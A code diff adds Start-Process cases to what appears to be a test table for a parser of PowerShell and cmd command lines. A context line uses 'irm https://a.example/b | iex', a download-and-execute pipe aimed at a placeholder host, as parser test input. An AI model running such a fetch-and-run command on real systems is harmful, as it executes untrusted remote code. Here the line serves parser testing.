@@ -126,6 +126,14 @@ scriptTable(
       "{cmd /c 'a & b'}→cmd[{a} ; {b}] ; {cmd.exe /S /C a b}→cmd[{a b}]",
     ],
     "sh in powershell": ["bash -c 'a && b'", "{bash -c 'a && b'}→sh[({a} && {b})]"],
+    "Start-Process": [
+      "Start-Process a -ArgumentList 'b -c', \"d $E\" -Wait; start-process -Verb runas 'C:\\a.exe' @('b', '-c'); Start-Process -FilePath a -Args b",
+      "{Start-Process a -ArgumentList 'b -c' 'd '·${e}q -Wait}→powershell[{a b -c d ${e}q}] ; {start-process -Verb runas 'C:\\a.exe' 'b' '-c'}→powershell[{C:\\a.exe b -c}] ; {Start-Process -FilePath a -Args b}→powershell[{a b}]",
+    ],
+    "Start-Process without arguments, or with them in front": [
+      "Start-Process $A -Wait; Start-Process -Wait; Start-Process -Args b -FilePath a; Start-Process b -FilePath a",
+      "{Start-Process ${a}q -Wait} ; {Start-Process -Wait} ; {Start-Process -Args b -FilePath a} ; {Start-Process b -FilePath a}",
+    ],
     "a pipe into iex": ["irm https://a.example/b | iex", "pipe({irm https://a.example/b} | {iex})"],
   },
   "powershell",
